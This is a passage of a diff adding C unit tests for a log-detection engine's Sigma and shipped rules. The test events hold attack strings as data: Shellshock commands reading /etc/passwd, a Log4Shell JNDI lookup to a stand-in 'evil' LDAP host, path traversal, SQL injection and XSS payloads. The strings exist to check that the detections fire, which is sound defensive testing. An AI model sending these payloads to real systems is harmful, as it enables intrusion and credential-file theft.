+            for (k = 0; k < n_reasons && strcmp(reasons[k], key); k++)
+                ;
+            if (k == n_reasons && n_reasons < 32)
+                snprintf(reasons[n_reasons++], sizeof reasons[0], "%s", key);
+            if (k < 32)
+                counts[k]++;
+        } else if (strstr(e->msg, "correlation rule: handled by vigil-cp")) {
+            skipped++;
+        }
+    }
+    cr_assert_eq(d.n, d.errors + d.warnings, "diag kept every entry");
+    /* one rule per SigmaHQ file; the correlation files hold one each */
+    cr_expect_eq(loaded + rejected + skipped, files, "loaded %u + rejected %u + skipped %u != files %u", loaded,
+                 rejected, skipped, files);
+    for (unsigned f = 0; f < loaded; f++)
+        cr_expect(detect_rule(rs, f)->file[0]);
+    printf("Sigma corpus: %u files: %u loaded, %u rejected, %u correlation rules skipped\n", files, loaded, rejected,
+           skipped);
+    for (unsigned k = 0; k < n_reasons; k++)
+        printf("  rejected %3u x %s\n", counts[k], reasons[k]);
+    unsigned unknown_fields = 0;
+    for (unsigned i = 0; i < d.n; i++)
+        unknown_fields += d.entries[i].severity == DIAG_WARNING && strstr(d.entries[i].msg, "no parser produces");
+    printf("  %u rules test fields no parser produces yet (warnings)\n", unknown_fields);
+    cr_expect_gt(loaded, files * 9 / 10, "most SigmaHQ rules of these log sources load");
+
+    /* the loaded corpus evaluates: a Shellshock line fires the Sigma rule */
+    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
+    cr_assert_not_null(st = detect_state_new(rs));
+    ev(lsid("linux", NULL, NULL));
+    s("message", "GET /cgi-bin/x HTTP/1.1 () { :; }; /bin/bash -c id");
+    int n = eval();
+    bool shellshock = false;
+    for (int i = 0; i < n && i < 64; i++)
+        shellshock |= !strcmp(detect_rule(rs, out[i])->title, "Shellshock Expression");
+    cr_expect(shellshock);
+}
+
+Test(detect, shipped_pack_loads_clean)
+{
+    const char *dirs[] = {source_path("configs/rules")};
+    cr_assert_eq(detect_load(dirs, 1, source_path("configs/rules/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
+    if (d.errors)
+        diag_print(&d, stderr);
+    cr_expect_eq(d.errors, 0);
+    cr_expect_geq(detect_rule_count(rs), 15);
+    for (unsigned i = 0; i < detect_rule_count(rs); i++) {
+        const struct rule_info *ri = detect_rule(rs, i);
+        cr_expect_str_eq(ri->author, "Vigil");
+        cr_expect(strstr(ri->tags, "attack.t"), "%s has no ATT&CK technique", ri->title);
+        cr_expect_eq(strlen(ri->id), 36, "%s: id is a UUID", ri->title);
+        for (unsigned j = 0; j < i; j++)
+            cr_expect_neq(memcmp(ri->uuid, detect_rule(rs, j)->uuid, 16), 0, "duplicate id");
+    }
+}
+
+static int rule_by_title(const char *title)
+{
+    for (unsigned i = 0; i < detect_rule_count(rs); i++)
+        if (!strcmp(detect_rule(rs, i)->title, title))
+            return (int)i;
+    cr_assert_fail("no rule '%s'", title);
+    return -1;
+}
+
+/* The shipped rules on hand-built events (parsed and unparsed forms); the
+ * real attack logs are in test_detect_corpus.c. */
+Test(detect, shipped_pack_semantics)
+{
+    const char *dirs[] = {source_path("configs/rules")};
+    cr_assert_eq(detect_load(dirs, 1, source_path("configs/rules/fieldmap.yaml"), reg, lt, NULL, cache, &rs, &d), 0);
+    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
+    cr_assert_not_null(st = detect_state_new(rs));
+    uint16_t sshd = lsid("linux", "sshd", NULL), web = lsid(NULL, NULL, "webserver"),
+             fw = lsid(NULL, NULL, "firewall"), asa = lsid("cisco", "asa", NULL);
+
+    ev(sshd);
+    s("message", "Failed password for invalid user admin from 192.0.2.7 port 4242 ssh2");
+    cr_expect(fires(rule_by_title("SSH Failed Password")));
+    cr_expect(fires(rule_by_title("SSH Login Attempt With Unknown User")));
+    cr_expect_not(fires(rule_by_title("SSH Login Attempt As Root")));
+    ev(sshd);
+    s("message", "Accepted publickey for root from 192.0.2.7 port 4242 ssh2");
+    cr_expect(fires(rule_by_title("SSH Login Attempt As Root")));
+    cr_expect_not(fires(rule_by_title("SSH Failed Password")));
+    ev(sshd);
+    s("message", "whatever the parser saw");
+    s("user.name", "root");
+    s("event.outcome", "failure");
+    cr_expect(fires(rule_by_title("SSH Login Attempt As Root")));
+    ev(web);
+    s("message", "Failed password for root from 192.0.2.7");
+    cr_expect_eq(eval(), 0, "sshd rules never fire on a webserver event");
+
+    ev(web);
+    s("message", "GET /cgi/../../etc/passwd HTTP/1.1");
+    cr_expect(fires(rule_by_title("Web Directory Traversal Attempt")));
+    ev(web);
+    s("message", "GET /x?q=..%2F..%2Fetc HTTP/1.1 \"Mozilla/5.0\"");
+    s("url.original", "/index.html");
+    cr_expect_not(fires(rule_by_title("Web Directory Traversal Attempt")), "parsed URL is clean");
+    ev(web);
+    s("url.original", "/x?file=%252e%252e%252fetc%252fpasswd");
+    cr_expect(fires(rule_by_title("Web Directory Traversal Attempt")));
+    ev(web);
+    s("url.original", "/p.php?id=1%20UNION%20SELECT%20password%20FROM%20users");
+    cr_expect(fires(rule_by_title("Web SQL Injection Attempt")));
+    ev(web);
+    s("url.original", "/products?id=42&order=asc&select=all");
+    cr_expect_not(fires(rule_by_title("Web SQL Injection Attempt")));
+    ev(web);
+    s("url.original", "/q?a=1'%20OR%201=1--");
+    cr_expect(fires(rule_by_title("Web SQL Injection Attempt")));
+    ev(web);
+    s("url.original", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E");
+    cr_expect(fires(rule_by_title("Web Cross-Site Scripting Attempt")));
+    ev(web);
+    s("url.original", "/");
+    s("user_agent.original", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)");
+    cr_expect(fires(rule_by_title("Web Vulnerability Scanner User Agent")));
+    ev(web);
+    s("message", "GET / HTTP/1.1\" 200 1 \"-\" \"() { :; }; echo; /bin/cat /etc/passwd\"");
+    cr_expect(fires(rule_by_title("Web Shellshock Attempt")));
+    ev(web);
+    s("message", "GET /?x=${${lower:j}ndi:${lower:l}dap://evil/a} HTTP/1.1");
+    cr_expect(fires(rule_by_title("Web Log4Shell JNDI Lookup Attempt")));
+    ev(web);
+    s("message", "GET /?x=${JNDI:ldap://evil/a} HTTP/1.1");
+    cr_expect(fires(rule_by_title("Web Log4Shell JNDI Lookup Attempt")));
+
+    ev(fw);
+    s("message", "DROP IN=eth1 OUT= SRC=192.168.10.55 DST=192.168.10.1 LEN=44 PROTO=TCP SPT=56247 DPT=1025 "
+                 "WINDOW=3072 RES=0x00 SYN URGP=0");
+    cr_expect(fires(rule_by_title("Firewall Denied Packet (iptables/netfilter)")));
+    cr_expect(fires(rule_by_title("TCP SYN Probe Logged By Firewall")));
+    ev(fw);
+    s("message", "ACCEPT IN=eth1 OUT= SRC=192.168.10.55 DST=192.168.10.1 LEN=44 PROTO=TCP SPT=1 DPT=2 ACK SYN URGP=0");
+    cr_expect_eq(eval(), 0);
+    ev(fw);
+    s("message", "date=2016-06-16 time=10:19:23 devname=D devid=FGT logid=0000000013 type=traffic srcip=7.3.8.5 "
+                 "action=deny policyid=8");
+    cr_expect(fires(rule_by_title("Firewall Denied Connection (FortiGate)")));
+
+    ev(asa);
+    s("event.code", "106023");
+    s("message", "Deny tcp src inside:111.11.11.1/2143 dst YYY:172.11.1.11/139 by access-group \"in\"");
+    cr_expect(fires(rule_by_title("Cisco ASA Denied Connection")));
+    ev(asa);
+    s("event.code", "733100");
+    cr_expect(fires(rule_by_title("Cisco ASA Threat Detection Alarm")));
+    ev(asa);
+    s("event.code", "106100");
+    s("message", "access-list inside permitted tcp inside/1.1.1.1(1) -> outside/2.2.2.2(2) hit-cnt 1");
+    cr_expect_eq(eval(), 0);
+}
